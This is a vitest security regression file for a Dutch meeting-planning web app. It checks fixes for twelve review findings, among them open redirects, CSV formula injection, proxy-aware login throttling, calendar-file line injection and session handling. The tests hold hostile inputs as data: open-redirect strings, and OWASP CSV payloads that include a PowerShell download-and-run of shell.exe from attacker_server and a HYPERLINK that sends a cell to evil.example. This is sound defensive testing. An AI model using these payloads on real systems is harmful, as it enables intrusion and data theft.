import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import fs from 'node:fs';
import { eq } from 'drizzle-orm';
import { describe, expect, it } from 'vitest';
import { locations, meetings, outbox, sessions, users } from '../../db/schema';
import { Client, countRows, createOrg, createTestApp, createUser, html, loginAs, ORIGIN, text, type TestApp } from '../helpers';
import { makeMeeting, member, network } from '../intervision/fixtures';
import { createSpace } from '../desks/factory';
import { startServerProcess, tempDir } from '../faults/server-process';
import { hashToken } from '../../src/lib/tokens';
import { instantOf } from '../../src/lib/time';
import { toCsv } from '../../src/lib/csv';
import { toIcs } from '../../src/calendar/ics';
import { meetingLocations } from '../../src/intervision/locations';
import { getVisibleSpace } from '../../src/desks/desks';

/**
 * Issue #19: twelve defects from an outside security review. Each block names its point; every
 * test here failed on the code before the fix.
 */

const lastMail = (db: TestApp['db']) => db.select().from(outbox).orderBy(outbox.id).all().at(-1);
const resetLinkIn = (body: string) => /http:\/\/localhost:3000(\/password\/reset\/[A-Za-z0-9_-]+)/.exec(body)![1]!;

describe('1. redirects after login and language switch: only same-origin paths', () => {
  // Raw values as a browser would send them in the query string or a form field.
  const HOSTILE = [
    '/\t/evil.example',
    '/\n/evil.example',
    '/\r/evil.example',
    '/\r\nSet-Cookie: x=1',
    '//evil.example/',
    '/\\evil.example',
    '/\t\\evil.example',
    'https://evil.example/',
    'javascript:alert(1)',
    ' /\t/evil.example',
    '\u0000//evil.example',
    '/.//evil.example',
    '/%2e/%2e//evil.example',
    '/\u007f/evil.example',
    'http://localhost:3000@evil.example/',
  ];

  it('logged in: GET /login?next=<hostile> answers 303 to / and never a 500', async () => {
    const { app, db } = createTestApp();
    const u = await createUser(db);
    const client = await loginAs(app, u.email);
    for (const next of HOSTILE) {
      const res = await client.get(`/login?next=${encodeURIComponent(next)}`);
      expect(res.status, JSON.stringify(next)).toBe(303);
      expect(res.headers.get('location'), JSON.stringify(next)).toBe('/');
    }
    const ok = await client.get(`/login?next=${encodeURIComponent('/meetings?kind=intervisie#lijst')}`);
    expect(ok.headers.get('location')).toBe('/meetings?kind=intervisie#lijst');
  });

  it('logged out: the login form does not carry a hostile next along; after login it lands on /', async () => {
    const { app, db } = createTestApp();
    const u = await createUser(db);
    for (const next of HOSTILE) {
      const res = await app.request(`/login?next=${encodeURIComponent(next)}`);
      expect(res.status, JSON.stringify(next)).toBe(200);
      expect((await html(res)).querySelector('form[action="/login"] input[name=next]')?.getAttribute('value'), JSON.stringify(next)).toBe('/');
      const login = await new Client(app).post('/login', { email: u.email, password: 'correct horse battery', next });
      expect(login.status, JSON.stringify(next)).toBe(303);
      expect(login.headers.get('location'), JSON.stringify(next)).toBe('/');
    }
  });

  it('POST /language with a hostile next goes to /, never a 500', async () => {
    const { app } = createTestApp();
    for (const next of HOSTILE) {
      const res = await new Client(app).post('/language', { locale: 'en', next });
      expect(res.status, JSON.stringify(next)).toBe(303);
      expect(res.headers.get('location'), JSON.stringify(next)).toBe('/');
    }
  });

  it('every control character in next, in any position: a 303 to a same-origin path without control characters', async () => {
    const { app, db } = createTestApp();
    const u = await createUser(db);
    const client = await loginAs(app, u.email);
    for (let code = 0; code < 0xa0; code++) {
      if (code > 0x1f && code < 0x7f) continue;
      const ch = String.fromCharCode(code);
      for (const next of [`/${ch}/evil.example`, `/account${ch}`, `${ch}/account`]) {
        const res = await client.get(`/login?next=${encodeURIComponent(next)}`);
        expect(res.status, `U+${code.toString(16)}`).toBe(303);
        const location = res.headers.get('location')!;
        expect(new URL(location, ORIGIN).origin).toBe(ORIGIN);
        expect(location).not.toMatch(/[\u0000-\u001f\u007f-\u009f\\]/);
        expect(location.startsWith('//')).toBe(false);
      }
    }
  });
});

describe('2. deactivation and roles: an org admin cannot touch a network admin', () => {
  it('an org admin cannot deactivate a network admin of their own organisation, nor change the roles', async () => {
    const { app, db } = createTestApp();
    const org = createOrg(db, { name: 'Gemeente Harderwijk' });
    const orgAdmin = await createUser(db, { orgId: org.id, roles: ['org_admin'] });
    const netAdmin = await createUser(db, { orgId: org.id, networkAdmin: true, name: 'Netwerk Beheerder' });
    const client = await loginAs(app, orgAdmin.email);
    const res = await client.post(`/org/${org.id}/members/${netAdmin.id}/deactivate`);
    expect(res.status).toBe(403);
    expect(text(await html(res))).toContain('Alleen een netwerkbeheerder kan het account of de rollen van een netwerkbeheerder wijzigen.');
    expect(db.select().from(users).where(eq(users.id, netAdmin.id)).get()!.deactivatedAt).toBeNull();
    const roles = await client.post(`/org/${org.id}/members/${netAdmin.id}/roles`, { roles: ['org_admin'] });
    expect(roles.status).toBe(403);
    expect(countRows(db, `memberships where user_id = '${netAdmin.id}' and role = 'org_admin'`)).toBe(0);
  });

  it('a network admin may deactivate another network admin; the network keeps one', async () => {
    const { app, db } = createTestApp();
    const org = createOrg(db);
    const a = await createUser(db, { orgId: org.id, networkAdmin: true });
    const b = await createUser(db, { orgId: org.id, networkAdmin: true });
    const client = await loginAs(app, a.email);
    expect((await client.post(`/org/${org.id}/members/${b.id}/deactivate`)).status).toBe(303);
    expect(countRows(db, 'users where is_network_admin = 1 and deactivated_at is null')).toBe(1);
    const self = await client.post(`/org/${org.id}/members/${a.id}/deactivate`);
    expect(self.status).toBe(409);
    expect(countRows(db, 'users where is_network_admin = 1 and deactivated_at is null')).toBe(1);
  });
});

/** The payloads of OWASP's CSV Injection page, and a phone number. */
const CSV_PAYLOADS = [
  '=HYPERLINK("http://evil.example/?x="&A2;"Klik")',
  "=cmd|' /C calc'!A0",
  "=cmd|' /C notepad'!'A1'",
  "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "=10+20+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "+2+3+cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '+31 6 12345678',
];

/** A small RFC 4180 reader for our dialect (semicolons, CRLF, BOM), enough to read back a cell. */
function readCsv(csv: string): string[][] {
  const s = csv.replace(/^\uFEFF/, '');
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < s.length; i++) {
    const ch = s[i]!;
    if (quoted) {
      if (ch === '"' && s[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ';') {
      row.push(cell);
      cell = '';
    } else if (ch === '\r' && s[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += ch;
  }
  if (cell || row.length) {
    row.push(cell);
    rows.push(row);
  }
  return rows;
}

describe('3. CSV formula injection', () => {
  it('the CSV helper neutralises every OWASP payload with a leading quote and leaves the rest readable', () => {
    const rows = readCsv(toCsv([CSV_PAYLOADS, ['Sanne de Vries', '2026-12-10', 120, -1]]));
    expect(rows[0]).toEqual(CSV_PAYLOADS.map((p) => `'${p}`));
    expect(rows[1]).toEqual(['Sanne de Vries', '2026-12-10', '120', '-1']);
  });

  it('a name set on invitation accept reaches the attendance and reflection CSV only neutralised', async () => {
    const n = await network();
    const evil = '=HYPERLINK("http://evil.example/?x="&A2;"Klik")';
    const orgAdmin = await createUser(n.db, { orgId: n.orgs.ggd.id, roles: ['org_admin'] });
    const admin = await loginAs(n.app, orgAdmin.email);
    expect((await admin.post(`/org/${n.orgs.ggd.id}/invitations`, { email: 'nieuw@example.test', role: 'member' })).status).toBe(303);
    const link = /http:\/\/localhost:3000(\/invite\/[A-Za-z0-9_-]+)/.exec(lastMail(n.db)!.body)![1]!;
    const guest = new Client(n.app);
    expect((await guest.post(link, { name: evil, password: 'een goed wachtwoord', passwordConfirm: 'een goed wachtwoord' })).status).toBe(303);
    const id = makeMeeting(n.db, n.facilitator.id, n.orgs.icare.id, {
      title: '+31 6 12345678 belt in',
      startsAt: instantOf('2026-12-01', '14:00'),
      endsAt: instantOf('2026-12-01', '16:00'),
      signupClosesAt: instantOf('2026-11-30', '17:00'),
      cancelDeadlineAt: instantOf('2026-11-30', '17:00'),
    });
    expect((await guest.post(`/meetings/${id}/signup`, {})).status).toBe(303);
    n.clock.set('2026-12-01T15:00:00Z');
    const fac = await loginAs(n.app, n.facilitator.email);
    const regId = (n.db.$client.prepare('select id from registrations where meeting_id = ?').get(id) as { id: number }).id;
    expect((await fac.post(`/facilitate/meetings/${id}/attendance`, { [`presence_${regId}`]: 'present' })).status).toBe(303);

    const attendance = readCsv(await (await fac.get(`/facilitate/meetings/${id}/attendance.csv`)).text());
    expect(attendance.flat()).toContain(`'${evil}`);
    expect(attendance.flat().some((c) => /^[=+\-@\t\r]/.test(c))).toBe(false);
    const reflection = readCsv(await (await guest.get('/reflection.csv')).text());
    expect(reflection.flat()).toContain("'+31 6 12345678 belt in");
    expect(reflection.flat().some((c) => /^[=+\-@\t\r]/.test(c))).toBe(false);
  });
});

describe('4. login throttling behind a proxy: the client IP is the entry our proxy added', () => {
  it('36 failed logins with random left-most X-Forwarded-For entries are throttled by the proxy-added address', async () => {
    const { app } = createTestApp({ env: { TRUST_PROXY: 'true' } });
    const statuses: number[] = [];
    for (let i = 0; i < 36; i++) {
      const spoofed = `10.${i}.${(i * 7) % 250}.${(i * 13) % 250}`;
      const res = await new Client(app).post(
        '/login',
        { email: `gok${i}@example.test`, password: 'fout wachtwoord' },
        { 'x-forwarded-for': `${spoofed}, 203.0.113.9` },
      );
      statuses.push(res.status);
    }
    expect(statuses.slice(0, 30).every((s) => s === 401)).toBe(true);
    expect(statuses.slice(30).every((s) => s === 429)).toBe(true);
  });

  it('with TRUST_PROXY_HOPS=2 the second entry from the right is the client; other clients are not affected', async () => {
    const { app } = createTestApp({ env: { TRUST_PROXY: 'true', TRUST_PROXY_HOPS: '2' } });
    for (let i = 0; i < 30; i++)
      await new Client(app).post('/login', { email: `gok${i}@example.test`, password: 'fout' }, { 'x-forwarded-for': `1.1.1.${i}, 198.51.100.7, 10.0.0.2` });
    const blocked = await new Client(app).post(
      '/login',
      { email: 'ander@example.test', password: 'fout' },
      { 'x-forwarded-for': '9.9.9.9, 198.51.100.7, 10.0.0.2' },
    );
    expect(blocked.status).toBe(429);
    const other = await new Client(app).post('/login', { email: 'ander@example.test', password: 'fout' }, { 'x-forwarded-for': '198.51.100.8, 10.0.0.2' });
    expect(other.status).toBe(401);
  });
});

describe('5. a facilitator whose role was removed no longer manages the meeting', () => {
  it('manage page, names, attendance.csv and edit form are 404 once the facilitator role is gone; the org admin still manages', async () => {
    const n = await network();
    const id = makeMeeting(n.db, n.facilitator.id, n.orgs.icare.id, { title: 'Casusoverleg' });
    const p = await member(n, n.orgs.ggd.id, 'Sanne de Vries');
    expect((await p.client.post(`/meetings/${id}/signup`, {})).status).toBe(303);
    const fac = await loginAs(n.app, n.facilitator.email);
    expect((await fac.get(`/facilitate/meetings/${id}`)).status).toBe(200);
    const feed = await fac.post('/account/calendar-feed');
    const feedUrl = /http:\/\/localhost:3000(\/calendar\/[A-Za-z0-9_-]+\.ics)/.exec(await feed.text())![1]!;
    expect(await (await n.app.request(feedUrl)).text()).toContain('Casusoverleg');

    const orgAdmin = await createUser(n.db, { orgId: n.orgs.icare.id, roles: ['org_admin'] });
    const admin = await loginAs(n.app, orgAdmin.email);
    expect((await admin.post(`/org/${n.orgs.icare.id}/members/${n.facilitator.id}/roles`, { roles: [] })).status).toBe(303);

    for (const path of [
      `/facilitate/meetings/${id}`,
      `/facilitate/meetings/${id}/attendance.csv`,
      `/facilitate/meetings/${id}/edit`,
      `/facilitate/meetings/${id}/attendance`,
      `/meetings/${id}/calendar.ics`,
    ]) {
      expect((await fac.get(path)).status, path).toBe(404);
    }
    expect((await fac.post(`/facilitate/meetings/${id}/edit`, { title: 'Gekaapt' })).status).toBe(404);
    const page = await fac.get(`/meetings/${id}`);
    expect(page.status).toBe(200);
    expect(text(await html(page))).not.toContain('Sanne de Vries');
    expect((await fac.get('/facilitate')).status).toBe(403);
    expect(await (await n.app.request(feedUrl)).text()).not.toContain('Casusoverleg');
    const adminView = await admin.get(`/facilitate/meetings/${id}`);
    expect(adminView.status).toBe(200);
    expect(text(await html(adminView))).toContain('Sanne de Vries');
  });
});

describe('5b. a facilitator whose role was removed no longer sees a closed group’s members', () => {
  it('the group page shows the members to its facilitator, and no longer once the role is gone', async () => {
    const n = await network();
    n.clock.set('2027-02-01T09:00:00Z');
    const fac = await loginAs(n.app, n.facilitator.email);
    const created = await fac.post('/facilitate/groups/new', {
      orgId: String(n.orgs.icare.id),
      title: 'Vaste groep',
      kind: 'intervisie',
      method: 'incident',
      description: '',
      date: '2027-03-15',
      start: '14:00',
      end: '16:00',
      placeKind: 'address',
      address: 'Stationsplein 1',
      town: 'Harderwijk',
      min: '1',
      max: '4',
      maxPerOrg: '',
      opensDate: '2027-02-01',
      opensTime: '00:00',
      closesDate: '2027-03-14',
      closesTime: '17:00',
      cancelDate: '2027-03-14',
      cancelTime: '17:00',
      visibility: 'all',
      cadenceWeeks: '2',
      count: '2',
      closed: '1',
    });
    expect(created.status).toBe(303);
    const groupId = created.headers.get('location')!.split('/').pop();
    const p = await member(n, n.orgs.ggd.id, 'Sanne de Vries');
    expect((await p.client.post(`/groups/${groupId}/join`)).status).toBe(303);
    expect(text(await html(await fac.get(`/groups/${groupId}`)))).toContain('Sanne de Vries');

    const orgAdmin = await createUser(n.db, { orgId: n.orgs.icare.id, roles: ['org_admin'] });
    const admin = await loginAs(n.app, orgAdmin.email);
    expect((await admin.post(`/org/${n.orgs.icare.id}/members/${n.facilitator.id}/roles`, { roles: [] })).status).toBe(303);
    const after = await fac.get(`/groups/${groupId}`);
    expect(after.status).toBe(200);
    expect(text(await html(after))).not.toContain('Sanne de Vries');
    expect(text(await html(await admin.get(`/groups/${groupId}`)))).toContain('Sanne de Vries');
  });
});

describe('6. the meeting form offers only locations shared with the organising organisation', () => {
  it('a location shared only with another organisation is neither offered nor accepted', async () => {
    const n = await network();
    const hidden = createSpace(n.db, n.orgs.cjg.id, { name: 'Alleen voor Lokalis', sharing: 'list', sharedWith: [n.orgs.lokalis.id] });
    const shared = createSpace(n.db, n.orgs.cjg.id, { name: 'Voor Icare', sharing: 'list', sharedWith: [n.orgs.icare.id] });
    const open = createSpace(n.db, n.orgs.ggd.id, { name: 'Voor iedereen', sharing: 'all' });
    const own = createSpace(n.db, n.orgs.icare.id, { name: 'Eigen pand', sharing: 'list', sharedWith: [] });
    const fac = await loginAs(n.app, n.facilitator.email);
    const offered = (await html(await fac.get('/facilitate/meetings/new'))).querySelectorAll('#f-locationId option').map((o) => o.getAttribute('value'));
    expect(offered).not.toContain(String(hidden.locationId));
    expect(offered).toEqual(expect.arrayContaining([String(shared.locationId), String(open.locationId), String(own.locationId)]));

    const form = {
      orgId: String(n.orgs.icare.id),
      title: 'Intervisie',
      kind: 'intervisie',
      method: 'incident',
      description: '',
      date: '2026-12-10',
      start: '14:00',
      end: '16:00',
      placeKind: 'location',
      locationId: String(hidden.locationId),
      address: '',
      town: '',
      min: '4',
      max: '8',
      maxPerOrg: '',
      opensDate: '2026-11-23',
      opensTime: '00:00',
      closesDate: '2026-12-09',
      closesTime: '17:00',
      cancelDate: '2026-12-09',
      cancelTime: '17:00',
      visibility: 'all',
    };
    const res = await fac.post('/facilitate/meetings/new', form);
    expect(res.status).toBe(422);
    expect(text((await html(res)).querySelector('#f-locationId-err'))).toBe('Kies een van de mogelijkheden.');
    expect(countRows(n.db, 'meetings')).toBe(0);
    expect((await fac.post('/facilitate/meetings/new', { ...form, locationId: String(shared.locationId) })).status).toBe(303);
  });
});

describe('6. one rule for "location open to organisation X": meeting picker and desk visibility agree', () => {
  it.each([
    ['own location, shared with all', { own: true, sharing: 'all', sharedWithAsker: false }],
    ['own location, shared with a list without us', { own: true, sharing: 'list', sharedWithAsker: false }],
    ['partner location, shared with all', { own: false, sharing: 'all', sharedWithAsker: false }],
    ['partner location, shared with a list that names us', { own: false, sharing: 'list', sharedWithAsker: true }],
    ['partner location, shared with a list without us', { own: false, sharing: 'list', sharedWithAsker: false }],
    ['partner location, shared with all and also listing us', { own: false, sharing: 'all', sharedWithAsker: true }],
  ] as const)('%s', (_name, combo) => {
    const { db } = createTestApp();
    const asker = createOrg(db);
    const partner = createOrg(db);
    const third = createOrg(db);
    const owner = combo.own ? asker : partner;
    const sharedWith = [third.id, ...(combo.sharedWithAsker ? [asker.id] : [])];
    const { locationId, spaceId } = createSpace(db, owner.id, { sharing: combo.sharing, sharedWith });
    const offered = meetingLocations(db, [asker.id]).some((l) => l.id === locationId);
    const deskVisible = getVisibleSpace(db, spaceId, [asker.id], asker.id) !== undefined;
    expect(offered).toBe(deskVisible);
    db.update(locations).set({ archivedAt: new Date() }).where(eq(locations.id, locationId)).run();
    expect(meetingLocations(db, [asker.id]).some((l) => l.id === locationId)).toBe(false);
  });
});

describe('7 and 11. control characters in text fields: stripped at input, and never in an .ics', () => {
  it('a title with a bare CR is stored without it, and the .ics has no injected line', async () => {
    const n = await network();
    const fac = await loginAs(n.app, n.facilitator.email);
    const res = await fac.post('/facilitate/meetings/new', {
      orgId: String(n.orgs.icare.id),
      title: 'x\rATTENDEE:mailto:evil@example.org',
      kind: 'intervisie',
      method: 'incident',
      description: 'Regel 1\r\nRegel 2\u0000\u0007',
      date: '2026-12-10',
      start: '14:00',
      end: '16:00',
      placeKind: 'address',
      address: 'Stationsplein 1\r\nX-EVIL:1',
      town: 'Harderwijk',
      min: '4',
      max: '8',
      maxPerOrg: '',
      opensDate: '2026-11-23',
      opensTime: '00:00',
      closesDate: '2026-12-09',
      closesTime: '17:00',
      cancelDate: '2026-12-09',
      cancelTime: '17:00',
      visibility: 'all',
    });
    expect(res.status).toBe(303);
    const m = n.db.select().from(meetings).get()!;
    expect(m.title).toBe('xATTENDEE:mailto:evil@example.org');
    expect(m.description).toBe('Regel 1\nRegel 2');
    expect(m.address).toBe('Stationsplein 1X-EVIL:1');
    const ics = await (await fac.get(`/meetings/${m.id}/calendar.ics`)).text();
    expect(ics).not.toMatch(/\r(?!\n)/);
    expect(ics.split('\r\n').filter((l) => /^(ATTENDEE|X-EVIL)/.test(l))).toEqual([]);
  });

  it('at output too: a stored title with a bare CR or other control characters never reaches the .ics raw', () => {
    const ics = toIcs([
      {
        uid: 'meeting-1@gastplek',
        start: new Date('2026-12-10T13:00:00Z'),
        end: new Date('2026-12-10T15:00:00Z'),
        title: 'x\rATTENDEE:mailto:evil@example.org',
        description: 'een\rtwee\u0000\nDTSTART:19700101',
        location: 'Plein 1\u000b\rX-EVIL:1',
        sequence: 0,
        status: 'CONFIRMED',
      },
    ]);
    expect(ics).not.toMatch(/\r(?!\n)/);
    expect(ics).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f]/);
    expect(ics.split('\r\n').filter((l) => /^(ATTENDEE|X-EVIL|DTSTART:1970)/.test(l))).toEqual([]);
    const empty = toIcs([], 'PUBLISH', 'Agenda\r\nX-EVIL:1');
    expect(empty.split('\r\n').filter((l) => l.startsWith('X-EVIL'))).toEqual([]);
  });

  it('NUL bytes are stripped from every text field (organisation name, invitation name, desk location)', async () => {
    const { app, db } = createTestApp();
    const admin = await createUser(db, { networkAdmin: true });
    const client = await loginAs(app, admin.email);
    const res = await client.post('/admin/organisations', { name: 'Titel\u0000met nul', kind: 'cjg', town: 'Ede\u0000', adminEmail: 'eerste@example.test' });
    expect(res.status).toBe(303);
    expect(db.$client.prepare("select name, town from organisations where name like 'Titel%'").get()).toEqual({ name: 'Titelmet nul', town: 'Ede' });
    expect(countRows(db, 'organisations where instr(name, char(0)) > 0 or instr(town, char(0)) > 0')).toBe(0);
  });

  it('a field of only control characters is empty, so required', async () => {
    const { app, db } = createTestApp();
    const admin = await createUser(db, { networkAdmin: true });
    const client = await loginAs(app, admin.email);
    const res = await client.post('/admin/organisations', { name: '\u0000\u0001\r\n', kind: 'cjg', town: 'Ede', adminEmail: 'eerste@example.test' });
    expect(res.status).toBe(422);
    expect(countRows(db, 'organisations')).toBe(0);
  });
});

describe('8. a password reset or change ends every other reset link and session', () => {
  it('after a reset with one link, an older unused link is refused', async () => {
    const { app, db } = createTestApp();
    const u = await createUser(db);
    await new Client(app).post('/password/forgot', { email: u.email });
    const first = resetLinkIn(lastMail(db)!.body);
    await new Client(app).post('/password/forgot', { email: u.email });
    const second = resetLinkIn(lastMail(db)!.body);
    expect(first).not.toBe(second);
    expect((await new Client(app).post(second, { password: 'nieuw wachtwoord 1', passwordConfirm: 'nieuw wachtwoord 1' })).status).toBe(303);
    expect((await new Client(app).get(first)).status).toBe(404);
    expect((await new Client(app).post(first, { password: 'aanvaller wachtwoord', passwordConfirm: 'aanvaller wachtwoord' })).status).toBe(404);
    await loginAs(app, u.email, 'nieuw wachtwoord 1');
  });

  it('a password change makes outstanding reset links useless and ends the other sessions', async () => {
    const { app, db } = createTestApp();
    const u = await createUser(db);
    const other = await loginAs(app, u.email);
    await new Client(app).post('/password/forgot', { email: u.email });
    const link = resetLinkIn(lastMail(db)!.body);
    const me = await loginAs(app, u.email);
    const res = await me.post('/account/password', { currentPassword: u.password, password: 'nieuw wachtwoord 2', passwordConfirm: 'nieuw wachtwoord 2' });
    expect(res.status).toBe(303);
    expect((await new Client(app).get(link)).status).toBe(404);
    expect((await other.get('/account')).status).toBe(303);
    expect((await me.get('/account')).status).toBe(200);
  });
});

describe('9. /password/forgot is rate limited per address and per IP, with the same answer', () => {
  it('ten requests for one address queue at most three mails; every answer reads the same', async () => {
    const { app, db } = createTestApp();
    const u = await createUser(db);
    const answers = new Set<string>();
    for (let i = 0; i < 10; i++) {
      const res = await new Client(app).post('/password/forgot', { email: u.email });
      expect(res.status).toBe(200);
      answers.add(text((await html(res)).querySelector('main')));
    }
    expect(answers.size).toBe(1);
    expect([...answers][0]).toContain('Als dit e-mailadres bij ons bekend is');
    expect(countRows(db, 'outbox')).toBe(3);
  });

  it('one IP asking for many addresses is limited too; the window passes', async () => {
    const { app, db, clock } = createTestApp({ env: { TRUST_PROXY: 'true' } });
    const people = await Promise.all(Array.from({ length: 25 }, () => createUser(db)));
    for (const p of people) await new Client(app).post('/password/forgot', { email: p.email }, { 'x-forwarded-for': '203.0.113.5' });
    expect(countRows(db, 'outbox')).toBe(20);
    const elsewhere = await new Client(app).post('/password/forgot', { email: people[24]!.email }, { 'x-forwarded-for': '203.0.113.6' });
    expect(elsewhere.status).toBe(200);
    expect(countRows(db, 'outbox')).toBe(21);
    clock.advance(16 * 60 * 1000);
    await new Client(app).post('/password/forgot', { email: people[23]!.email }, { 'x-forwarded-for': '203.0.113.5' });
    expect(countRows(db, 'outbox')).toBe(22);
  });
});

describe('10. a route’s own stricter Referrer-Policy wins over the global one', () => {
  it('pages whose URL carries a secret send no-referrer; other pages same-origin', async () => {
    const n = await network();
    const p = await member(n, n.orgs.ggd.id, 'Sanne de Vries');
    const statement = await p.client.post('/reflection/statements', { from: '2026-01-01', to: '2026-11-23' });
    const code = /\/verify\/([A-Za-z0-9_-]+)/.exec(await (await p.client.get(statement.headers.get('location')!)).text())![1]!;
    await new Client(n.app).post('/password/forgot', { email: p.email });
    const reset = resetLinkIn(lastMail(n.db)!.body);
    const orgAdmin = await createUser(n.db, { orgId: n.orgs.ggd.id, roles: ['org_admin'] });
    await (await loginAs(n.app, orgAdmin.email)).post(`/org/${n.orgs.ggd.id}/invitations`, { email: 'nieuw@example.test', role: 'member' });
    const invite = /http:\/\/localhost:3000(\/invite\/[A-Za-z0-9_-]+)/.exec(lastMail(n.db)!.body)![1]!;
    const feed = await p.client.post('/account/calendar-feed');
    const feedUrl = /http:\/\/localhost:3000(\/calendar\/[A-Za-z0-9_-]+\.ics)/.exec(await feed.text())![1]!;

    expect(feed.headers.get('referrer-policy')).toBe('no-referrer');
    for (const path of [`/verify/${code}`, reset, invite, feedUrl, '/verify/AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA', '/password/reset/AAAAAAAAAAAAAAAAAAAAAAAA']) {
      const res = await n.app.request(path);
      expect(res.headers.get('referrer-policy'), path).toBe('no-referrer');
    }
    expect((await n.app.request('/login')).headers.get('referrer-policy')).toBe('same-origin');
    expect((await p.client.get('/meetings')).headers.get('referrer-policy')).toBe('same-origin');
  });
});

describe('12. the server listens on 127.0.0.1 unless HOST says otherwise', () => {
  it('in development it is not reachable on another interface of this machine', async () => {
    const outside = Object.values(os.networkInterfaces())
      .flat()
      .find((a) => a && a.family === 'IPv4' && !a.internal)?.address;
    const dir = tempDir();
    const server = await startServerProcess(path.join(dir, 'gastplek.db'));
    try {
      const port = Number(new URL(server.url).port);
      const reach = (host: string) =>
        new Promise<boolean>((resolve) => {
          const s = net.connect(port, host);
          s.once('connect', () => {
            s.destroy();
            resolve(true);
          });
          s.once('error', () => resolve(false));
        });
      expect(await reach('127.0.0.1')).toBe(true);
      // A server on all interfaces also answers on 127.0.0.2 and ::1 (Linux routes all of 127/8 to
      // lo), so these stand in for "another interface" on a machine that has no other one.
      expect(await reach('127.0.0.2')).toBe(false);
      expect(await reach('::1')).toBe(false);
      if (outside) expect(await reach(outside)).toBe(false);
    } finally {
      server.proc.kill('SIGTERM');
      await server.exited;
      fs.rmSync(dir, { recursive: true, force: true });
    }
  }, 60_000);
});

describe('also: sessions', () => {
  it('the session cookie lives as long as the server keeps the session idle (SESSION_IDLE_MINUTES), not 400 days', async () => {
    const { app, db } = createTestApp({ env: { SESSION_IDLE_MINUTES: '480' } });
    const u = await createUser(db);
    const res = await new Client(app).post('/login', { email: u.email, password: u.password });
    const cookie = res.headers.getSetCookie().find((c) => c.startsWith('gastplek_session='))!;
    expect(cookie).toMatch(/Max-Age=28800(;|$)/);
    expect(cookie).toMatch(/HttpOnly/);
  });

  it('the database holds only a SHA-256 of the session id', async () => {
    const { app, db } = createTestApp();
    const u = await createUser(db);
    const client = await loginAs(app, u.email);
    const id = client.cookies.get('gastplek_session')!;
    const stored = db
      .select()
      .from(sessions)
      .all()
      .map((s) => s.id);
    expect(stored).toEqual([hashToken(id)]);
    expect((await client.get('/account')).status).toBe(200);
    // The stored value is not a working cookie.
    expect((await app.request('/account', { headers: { cookie: `gastplek_session=${stored[0]}` } })).status).toBe(303);
  });

  it('five wrong passwords from one address do not lock the account for someone elsewhere', async () => {
    const { app, db } = createTestApp({ env: { TRUST_PROXY: 'true' } });
    const u = await createUser(db);
    for (let i = 0; i < 6; i++) await new Client(app).post('/login', { email: u.email, password: 'fout' }, { 'x-forwarded-for': '198.51.100.66' });
    const attacker = await new Client(app).post('/login', { email: u.email, password: u.password }, { 'x-forwarded-for': '198.51.100.66' });
    expect(attacker.status).toBe(429);
    const owner = await new Client(app).post('/login', { email: u.email, password: u.password }, { 'x-forwarded-for': '192.0.2.10' });
    expect(owner.status).toBe(303);
  });
});

describe('safe redirect after login: only a path on our own origin, as a whole', () => {
  async function nextAfterLogin(next: string) {
    const { app, db } = createTestApp();
    const u = await createUser(db);
    const client = await loginAs(app, u.email);
    const res = await client.get(`/login?next=${encodeURIComponent(next)}`);
    expect(res.status, JSON.stringify(next)).toBe(303);
    return res.headers.get('location');
  }

  it('a next naming another host, or carrying a user name or password, goes to / (not to the path it names)', async () => {
    expect(await nextAfterLogin('//evil.example/account')).toBe('/');
    expect(await nextAfterLogin('//user@localhost:3000/account')).toBe('/');
    expect(await nextAfterLogin('//:secret@localhost:3000/account')).toBe('/');
  });

  it('a relative next (no leading slash) goes to /', async () => {
    expect(await nextAfterLogin('account')).toBe('/');
  });

  it('a next the URL parser refuses goes to /, not a 500', async () => {
    expect(await nextAfterLogin('//[x/account')).toBe('/');
  });

  it('a next of 500 characters is kept, 501 goes to /', async () => {
    const of = (n: number) => `/account?q=${'a'.repeat(n - '/account?q='.length)}`;
    expect(of(500)).toHaveLength(500);
    expect(await nextAfterLogin(of(500))).toBe(of(500));
    expect(await nextAfterLogin(of(501))).toBe('/');
  });
});

describe('CSRF: safe methods are never refused', () => {
  it('HEAD and OPTIONS without Origin or form body are not a 403/415', async () => {
    const { app } = createTestApp();
    expect((await app.request('/login', { method: 'HEAD', headers: { 'sec-fetch-site': 'cross-site' } })).status).toBe(200);
    expect([403, 415]).not.toContain((await app.request('/login', { method: 'OPTIONS', headers: { 'sec-fetch-site': 'cross-site' } })).status);
  });
});

describe('client IP for throttling', () => {
  const failLogins = async (app: TestApp['app'], xff: (i: number) => string, n = 30) => {
    for (let i = 0; i < n; i++) await new Client(app).post('/login', { email: `gok${i}@example.test`, password: 'fout' }, { 'x-forwarded-for': xff(i) });
  };
  const attempt = (app: TestApp['app'], xff: string) =>
    new Client(app).post('/login', { email: 'ander@example.test', password: 'fout' }, { 'x-forwarded-for': xff });

  it('without TRUST_PROXY, X-Forwarded-For is ignored: changing it does not dodge the throttle', async () => {
    const { app } = createTestApp();
    await failLogins(app, (i) => `198.51.100.${i}`);
    expect((await attempt(app, '192.0.2.1')).status).toBe(429);
  });

  it('behind a proxy, spaces and empty entries around the proxy-added address do not change who the client is', async () => {
    const { app } = createTestApp({ env: { TRUST_PROXY: 'true' } });
    await failLogins(app, (i) => `10.0.0.${i},  203.0.113.9 , `);
    expect((await attempt(app, '203.0.113.9')).status).toBe(429);
    expect((await attempt(app, '203.0.113.10')).status).toBe(401);
  });

  it('behind a proxy, an entry that is not an IP address counts as the peer, so junk values do not dodge the throttle', async () => {
    const { app } = createTestApp({ env: { TRUST_PROXY: 'true' } });
    await failLogins(app, (i) => `junk-${i}`);
    expect((await attempt(app, 'more-junk')).status).toBe(429);
  });
});
